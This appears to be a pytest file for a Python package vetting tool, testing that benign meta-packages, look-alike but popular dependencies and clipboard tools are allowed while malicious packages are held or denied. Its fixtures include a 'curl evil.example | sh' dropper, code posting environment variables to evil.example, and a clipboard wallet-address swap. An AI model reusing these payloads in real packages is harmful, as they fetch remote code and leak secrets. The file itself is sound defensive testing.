"""ADR 0133: what real packages of the ranked corpus are that is not malware.

Each benign shape was held on the tree this started from: a meta-package whose code is its
family's (``pydantic-ai`` -> ``pydantic-ai-slim``), a dependency one letter from a popular
name that is itself among the most downloaded (``usort`` beside ``isort``), and a clipboard
tool's
``python -m`` entry that copies what it is given. Each sits next to the malicious shape that
must still hold or deny.
"""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.typosquat import established
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel


def _rules(findings: Iterable[PackageFinding], least: Severity = Severity.HIGH) -> set[str]:
    return {f.rule for f in findings if f.severity >= least}


# Meta-packages ----------------------------------------------------------------------------

LICENCE = {"pkg_ai-1.0.dist-info/licenses/LICENSE": "MIT\n"}


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_a_meta_package_pinning_its_family_at_its_own_version_is_allowed(kind: str) -> None:
    requires = (
        "Requires-Dist: pkg-ai-slim[cli,openai]==1.0\n"
        "Requires-Dist: pkg-ai-slim[bedrock]==1.0; extra == 'bedrock'\n"
    )
    if kind == "wheel":
        data = wheel("pkg-ai", "1.0", dict(LICENCE), requires=requires)
        report = vet("pkg_ai-1.0-py3-none-any.whl", data)
    else:
        files = {"pyproject.toml": "[project]\nname = 'pkg-ai'\n", "README.md": "meta\n"}
        data = sdist("pkg_ai", "1.0", files, extra_metadata=requires.replace("pkg-ai", "pkg_ai"))
        report = vet("pkg_ai-1.0.tar.gz", data)
    assert "empty-package" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "requires",
    [
        "",  # names nothing: the placeholder the rule exists for
        "Requires-Dist: pkg-ai-slim==0.9\n",  # the family at another version
        "Requires-Dist: pkg-ai-slim>=1.0\n",  # not pinned
        "Requires-Dist: other-slim==1.0\n",  # a project of another name
        "Requires-Dist: pkgai-slim==1.0\n",  # not the name and a separator
        "Requires-Dist: pkg-ai-slim==1.0; extra == 'all'\n",  # only under an extra
        "Requires-Dist: pkg-ai-slim==1.0; sys_platform == 'win32'\n",  # one platform only
    ],
)
def test_an_empty_package_not_a_family_release_still_holds(requires: str) -> None:
    report = vet("pkg_ai-1.0-py3-none-any.whl", wheel("pkg-ai", "1.0", {}, requires=requires))
    assert "empty-package" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# Look-alike dependencies that are projects of their own ---------------------------------

CODE: dict[str, str | bytes] = {"lib/__init__.py": "def add(a, b):\n    return a + b\n"}


@pytest.mark.parametrize(
    "requires",
    [
        'Requires-Dist: usort==1.0.8 ; extra == "dev"\n',  # aiosqlite's development extra
        "Requires-Dist: usort>=1.0\n",
    ],
)
def test_a_dependency_among_the_most_downloaded_is_no_look_alike(requires: str) -> None:
    # usort (rank 3,029 of June 2026) is one letter from isort, and a project of its own.
    assert "usort" in established()
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=requires))
    assert "lookalike-dependency" not in _rules(report.findings, Severity.LOW), report.to_json()
    assert report.verdict is Outcome.ALLOW


@pytest.mark.parametrize("name", ["isortt", "iosrt", "reqeusts", "isprt"])
def test_a_look_alike_outside_the_most_downloaded_still_holds(name: str) -> None:
    assert name not in established()
    requires = f'Requires-Dist: {name}==1.0 ; extra == "dev"\n'
    report = vet("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", dict(CODE), requires=requires))
    assert "lookalike-dependency" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD


# A package's ``python -m`` entry --------------------------------------------------------

CLIP_MAIN = (
    "import sys\nimport pyperclip\n"
    "if len(sys.argv) > 2 and sys.argv[1] == '--copy':\n"
    "    pyperclip.copy(sys.argv[2])\n"
    "elif len(sys.argv) > 1 and sys.argv[1] == '--paste':\n"
    "    sys.stdout.write(pyperclip.paste())\n"
)


def test_a_clipboard_tools_main_module_runs_when_a_person_runs_it() -> None:
    files: dict[str, str | bytes] = {"clip/__init__.py": "X = 1\n", "clip/__main__.py": CLIP_MAIN}
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    assert "clipboard" not in _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW


def test_a_main_module_the_package_imports_runs_on_import() -> None:
    files: dict[str, str | bytes] = {
        "clip/__init__.py": "from . import __main__\n",
        "clip/__main__.py": CLIP_MAIN,
    }
    report = vet("clip-1.0-py3-none-any.whl", wheel("clip", "1.0", files))
    found = [f for f in report.findings if f.rule == "clipboard" and f.severity >= Severity.HIGH]
    assert found and "on import" in found[0].explanation
    assert report.verdict is Outcome.HOLD


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # A clipper's swap: a wallet address written in the code.
        ("import pyperclip\npyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n", ""),
        ("import os\nos.system('curl http://evil.example/x | sh')\n", "dropper"),
        (
            (
                "import os, urllib.request\nurllib.request.urlopen('http://evil.example/c',"
                " data=repr(dict(os.environ)).encode())\n"
            ),
            "exfiltration",
        ),
    ],
)
@pytest.mark.parametrize("imported", [False, True])
def test_a_main_modules_payload_still_holds_or_denies(body: str, rule: str, imported: bool) -> None:
    init = "from . import __main__\n" if imported else "X = 1\n"
    files: dict[str, str | bytes] = {"pkg/__init__.py": init, "pkg/__main__.py": body}
    report = vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", files))
    if rule:
        assert rule in _rules(report.findings, Severity.CRITICAL)
        assert report.verdict is Outcome.DENY
    else:
        assert "clipboard" in _rules(report.findings)
        assert report.verdict is not Outcome.ALLOW


# The fourth corpus (ADR 0134): placeholders by a name's owner, Cython-only sdists ---------


@pytest.mark.parametrize("name", ["asyncio", "bs4"])
def test_an_empty_package_under_an_established_name_is_reported_not_held(name: str) -> None:
    # asyncio 4.0.0: the deprecated backport emptied; bs4: a pointer to beautifulsoup4.
    assert name in established()
    report = vet(f"{name}-4.0.0-py3-none-any.whl", wheel(name, "4.0.0", {"README.rst": "x\n"}))
    found = [f for f in report.findings if f.rule == "empty-package"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert report.verdict is Outcome.ALLOW


def test_a_family_released_under_a_joined_name_is_a_meta_package() -> None:
    # griffe 2: ``griffecli==2.4.1`` and ``griffelib==2.4.1``, no code of its own.
    requires = "Requires-Dist: tinylibcli==2.4.1\nRequires-Dist: tinylibcore==2.4.1\n"
    report = vet("tinylib-2.4.1-py3-none-any.whl", wheel("tinylib", "2.4.1", {}, requires=requires))
    assert report.verdict is Outcome.ALLOW, report.to_json()


CYTHON_ONLY: dict[str, str | bytes] = {
    "fastbits/__init__.pyi": "class Bits: ...\n",
    "fastbits/fastbits.pyx": "cdef class Bits:\n    cdef int n\n",
    "fastbits/bits.c": "int bits(void) { return 0; }\n",
    "fastbits/version.pxi": "__version__ = '1.2.0'\n",
    "setup.py": (
        "from setuptools import setup\n"
        "exec(open('fastbits/version.pxi').read())\n"
        "setup(name='fastbits', version=__version__)\n"
    ),
}


def test_a_cython_only_sdist_is_code_and_its_pxi_is_no_data_name() -> None:
    # pyroaring 1.2.0: .pyx/.pxi/.c sources only, setup.py executes version.pxi.
    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", CYTHON_ONLY))
    assert not {"empty-package", "file-exec"} & _rules(report.findings), report.to_json()
    assert report.verdict is Outcome.ALLOW


@pytest.mark.parametrize(
    ("target", "body", "rule"),
    [
        # Code under a data name is still code hidden under a data name.
        ("fastbits/version.txt", "__version__ = '1.2.0'\n", "file-exec"),
        # A Cython include's text runs at install as the runner's own code.
        ("fastbits/version.pxi", "import os\nos.system('curl http://evil.example/x | sh')\n", ""),
    ],
)
def test_what_setup_py_executes_is_still_judged(target: str, body: str, rule: str) -> None:
    files = {
        **{k: v for k, v in CYTHON_ONLY.items() if k != "fastbits/version.pxi"},
        target: body,
        "setup.py": (
            f"from setuptools import setup\nexec(open({target!r}).read())\n"
            "setup(name='fastbits', version='1.2.0')\n"
        ),
    }
    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", files))
    if rule:
        assert rule in _rules(report.findings)
        assert report.verdict is not Outcome.ALLOW
    else:
        assert report.verdict is Outcome.DENY, report.to_json()


def test_an_sdist_of_data_only_is_still_empty() -> None:
    files = {"fastbits/data.json": "{}\n", "README.md": "x\n"}
    report = vet("fastbits-1.2.0.tar.gz", sdist("fastbits", "1.2.0", files))
    assert "empty-package" in _rules(report.findings)
    assert report.verdict is Outcome.HOLD
